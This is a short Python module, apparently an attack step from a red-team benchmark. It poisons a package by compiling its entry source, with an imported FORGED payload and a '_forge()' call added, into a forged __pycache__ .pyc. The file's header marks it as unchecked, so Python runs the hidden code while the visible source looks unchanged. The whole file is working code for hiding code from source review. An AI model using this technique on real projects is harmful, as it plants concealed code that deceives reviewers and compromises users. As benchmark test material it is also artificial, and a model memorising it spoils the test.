"""The source is innocent; bytecode beside it, marked as never to be checked, is not."""

import subprocess

from bench.redteam.pieces import FORGED
from bench.redteam.view import View

COMPILE = """
import importlib.util, marshal, sys
path = sys.argv[1]
code = compile(sys.stdin.read(), path, "exec")
head = importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little") + bytes(8)
sys.stdout.buffer.write(head + marshal.dumps(code))
"""


def attack(view: View) -> None:
    code = view.read(view.entry) + FORGED + "\n_forge()\n"
    made = subprocess.run(
        [view.interpreter, "-I", "-S", "-c", COMPILE, f"/workspace/{view.entry}"],
        input=code.encode(), capture_output=True, check=True,
    )  # fmt: skip
    tag = subprocess.run(
        [view.interpreter, "-I", "-S", "-c", "import sys; print(sys.implementation.cache_tag)"],
        capture_output=True, check=True, text=True,
    )  # fmt: skip
    name = f"{view.package}__pycache__/__init__.{tag.stdout.strip()}.pyc"
    view.write(name, made.stdout)
